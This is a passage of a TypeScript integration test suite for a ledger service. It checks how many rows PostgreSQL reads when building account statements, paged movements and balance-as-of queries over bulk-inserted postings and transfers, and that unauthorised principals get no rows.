      expect(scan?.['Heap Fetches']).toBe(0);

      // And the statement of a short recent window reads that window only.
      const window = await statement(z.uuid, { from: startOfLast10, to: '2999-01-01T00:00:00Z' });
      expect(window.status).toBe(200);
      const body = window.body as Statement;
      expect([body.openingBalance, body.closingBalance, body.totalIn, body.movements.length]).toStrictEqual([
        99990, 100000, 10, 10,
      ]);
      expect(body.movements[9].balance).toBe(100000);

      // The statement is a named statement (decision 0048): a connection may keep a generic plan, made without
      // the window's and the cursor's values. It must read no more of the postings than the custom plan reads (a
      // whole-history window sums the whole history either way), and a short window only that window.
      const db = new pg.Client({ connectionString: t.databaseUrl });
      await db.connect();
      try {
        const principal = { kind: 'client' as const, appId: appA.appId };
        const middle = await nthPosting(db, z.uuid, 50000);
        const cases: [string, ReturnType<typeof statementQuery>][] = [
          ['the first page', statementQuery(z.uuid, principal, '1970-01-01T00:00:00Z', 'now', 101)],
          [
            'a page after a cursor',
            // Its figures come from the signed cursor (decision 0077): only the page is read.
            statementPageQuery(
              z.uuid,
              principal,
              { from: '1970-01-01T00:00:00Z', to: 'now', upTo: 'now', position: middle },
              101,
              money(50_000),
            ),
          ],
          [
            'the last ten postings',
            statementQuery(z.uuid, principal, startOfLast10, '2999-01-01T00:00:00Z', 101),
          ],
        ];
        const read: Record<string, number[]> = {};
        for (const [label, query] of cases) {
          read[label] = [];
          for (const mode of ['force_custom_plan', 'force_generic_plan'] as const) {
            read[label].push(rowsRead(await preparedPlan(db, query.text, query.values, mode), 'postings'));
          }
        }
        for (const [label, [custom, generic]] of Object.entries(read)) {
          expect([label, generic <= 2 * custom + 50]).toStrictEqual([label, true]);
        }
        expect(read['the last ten postings'][1]).toBeLessThan(100);
        // The balance as of a time reads from the nearer end too (decision 0075): near the start of the history, the
        // postings before it, not the 99,990 after it.
        const [nearStart] = (
          await db.query(
            `SELECT to_char(created_at AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"') AS at
               FROM postings WHERE account_id = $1 ORDER BY created_at OFFSET 9 LIMIT 1`,
            [z.uuid],
          )
        ).rows as { at: string }[];
        const balanceValues = [z.uuid, appA.appId, null, nearStart.at];
        expect((await db.query(BALANCE_AT, balanceValues)).rows).toStrictEqual([{ balance: '10.000000' }]);
        for (const mode of ['force_custom_plan', 'force_generic_plan'] as const) {
          const postingsRead = rowsRead(await preparedPlan(db, BALANCE_AT, balanceValues, mode), 'postings');
          expect([mode, postingsRead < 100]).toStrictEqual([mode, true]);
        }
        // Each balance is summed from the nearer end of the history (decision 0075), and page 1 takes its page by the
        // account's id in index order, as a later page does (decision 0077, amended): it reads the period once for its
        // totals (100,000 postings), its page (101, the LIMIT) and one posting at each end of the history for its
        // opening, with either plan. Before: its page was a scan of the whole period and a sort, about 200,000 rows
        // (400,000 before decision 0075). A page after a cursor in the middle reads its own rows only (decision 0077;
        // before: 200,000, and 300,000 before decision 0075).
        // Should the statistics sample miss the other accounts' postings, the totals' custom plan may read the whole
        // table sequentially instead of the account's range: still once, so the bound leaves room for the rest of it.
        const [{ others }] = (
          await db.query(`SELECT count(*)::int AS others FROM postings WHERE account_id <> $1`, [z.uuid])
        ).rows as { others: number }[];
        const [totals, page, ends] = [100_000 + others, 101, 2];
        /** 'within' when the bound holds, else the count, so a failure shows it. */
        const within = (bound: number) => (postingsRead: number) =>
          postingsRead <= bound ? 'within' : postingsRead;
        expect({
          firstPage: read['the first page'].map(within(totals + page + ends)),
          afterCursor: read['a page after a cursor'].map(within(page + 1)),
        }).toStrictEqual({
          firstPage: ['within', 'within'],
          afterCursor: ['within', 'within'],
        });
        // Page 1 reads its rows by the account's id, not through the scope: for a principal that does not reach the
        // account (another application, a user token of another owner) it still answers no row, and reads no posting.
        const strangers: Principal[] = [
          { kind: 'client', appId: appB.appId },
          { kind: 'subject', appId: appA.appId, subject: ownerX },
        ];
        for (const stranger of strangers) {
          const query = statementQuery(z.uuid, stranger, '1970-01-01T00:00:00Z', 'now', 101);
          expect((await db.query(query.text, query.values)).rows).toStrictEqual([]);
          for (const mode of ['force_custom_plan', 'force_generic_plan'] as const) {
            const postingsRead = rowsRead(await preparedPlan(db, query.text, query.values, mode), 'postings');
            expect([stranger.kind, mode, postingsRead]).toStrictEqual([stranger.kind, mode, 0]);
          }
        }
      } finally {
        await db.end();
      }
    }, 120_000);

    it("a page of credit lines of internal transfers finds each line's own DEPOSIT by primary key: at most 2 transfer rows a line, none for debit lines (100,000 transfers; decision 0084)", async () => {
      const sender = await openAccount(t.http, tokenA, appA.appId, await createOwner(t.http, tokenA));
      const receiver = await openAccount(t.http, tokenB, appB.appId, await createOwner(t.http, tokenB));
      await setBalance(t.http, tokenA, sender.uuid, 100_000);
      const sent = await postTransfer(t.http, tokenA, transferBody(sender.uuid, receiver.cvu, 1));
      expect(sent.status).toBe(201);
      const template = (sent.body as { uuid: string }).uuid;
      // 50,000 more internal transfers between the two, copied from the real one: a WITHDRAW and its DEPOSIT,
      // linked both ways, and an entry named by the WITHDRAW (-1 for the sender, +1 for the receiver).
      const columns = (
        (await t.dataSource.query(
          `SELECT column_name AS name FROM information_schema.columns
            WHERE table_schema = current_schema() AND table_name = 'transfers'
              AND column_name NOT IN ('id', 'linked_transfer_id', 'created_at')`,
        )) as { name: string }[]
      ).map((column) => `"${column.name}"`);
      const copied = columns.map((column) => `x.${column}`).join(', ');
      const bulk = 50_000;
      await t.dataSource.transaction(async (manager) => {
        for (const [side, other, pick] of [
          ['w', 'd', 'x.id = $1'],
          ['d', 'w', 'x.linked_transfer_id = $1'],
        ] as const)
          await manager.query(
            `INSERT INTO transfers (id, linked_transfer_id, created_at, ${columns.join(', ')})
             SELECT md5('${side}' || i)::uuid, md5('${other}' || i)::uuid, now() - make_interval(secs => ${bulk + 1} - i),
                    ${copied}
               FROM generate_series(1, ${bulk}) AS i, transfers x WHERE ${pick}`,
            [template],
          );
        await manager.query(
          `INSERT INTO journal_entries (id, app_id, kind, reference, actor, created_at)
           SELECT md5('e' || i)::uuid, $1, 'INTERNAL_TRANSFER', md5('w' || i)::uuid::text, 'test:bulk',
                  now() - make_interval(secs => ${bulk + 1} - i)
             FROM generate_series(1, ${bulk}) AS i`,
          [appA.appId],
        );
        await manager.query(
          `INSERT INTO postings (entry_id, account_id, amount, currency, created_at)
           SELECT md5('e' || i)::uuid, a.id, a.amount, 'ARS', now() - make_interval(secs => ${bulk + 1} - i)
             FROM generate_series(1, ${bulk}) AS i, (VALUES ($1::uuid, -1::numeric), ($2::uuid, 1::numeric)) AS a(id, amount)`,
          [sender.uuid, receiver.uuid],
        );
        await manager.query(`UPDATE ledger_accounts SET balance = balance - ${bulk} WHERE id = $1`, [
          sender.uuid,
        ]);
        await manager.query(`UPDATE ledger_accounts SET balance = balance + ${bulk} WHERE id = $1`, [
          receiver.uuid,
        ]);
      });
      await t.dataSource.query('VACUUM ANALYZE transfers, postings, journal_entries, ledger_accounts');

      const HISTORY = '1970-01-01T00:00:00Z';
      const db = new pg.Client({ connectionString: t.databaseUrl });
      await db.connect();
      try {
        for (const [account, appId, side] of [
          [receiver, appB.appId, 'd'],
          [sender, appA.appId, 'w'],
        ] as const) {
          const principal = { kind: 'client' as const, appId };
          const middle = await nthPosting(db, account.uuid, 25000);
          const window = { from: HISTORY, to: 'now', upTo: 'now', position: middle };
          for (const query of [
            statementQuery(account.uuid, principal, HISTORY, 'now', 101),
            statementPageQuery(account.uuid, principal, window, 101, money(0)),
          ]) {
            const [{ movements }] = (await db.query(query.text, query.values)).rows as {
              movements: { reference: string }[];
            }[];
            expect(movements).toHaveLength(101);
            // Each line names a transfer row of its own account, on its own side, a different one each.
            const [{ own }] = (
              await db.query(
                `SELECT count(*)::int AS own FROM transfers
                  WHERE id = ANY ($1::uuid[]) AND account_id = $2 AND movement_type = $3`,
                [movements.map((m) => m.reference), account.uuid, side === 'd' ? 'DEPOSIT' : 'WITHDRAW'],
              )
            ).rows as { own: number }[];
            expect(own).toBe(101);
            for (const mode of ['force_custom_plan', 'force_generic_plan'] as const) {
              const nodes = await preparedPlan(db, query.text, query.values, mode);
              const read = rowsRead(nodes, 'transfers');
              expect([query.name, mode, read <= (side === 'd' ? 2 * 101 : 0)]).toStrictEqual([
                query.name,
                mode,
                true,
              ]);
            }
          }
        }
      } finally {
        await db.end();
      }
    }, 120_000);
  });
});
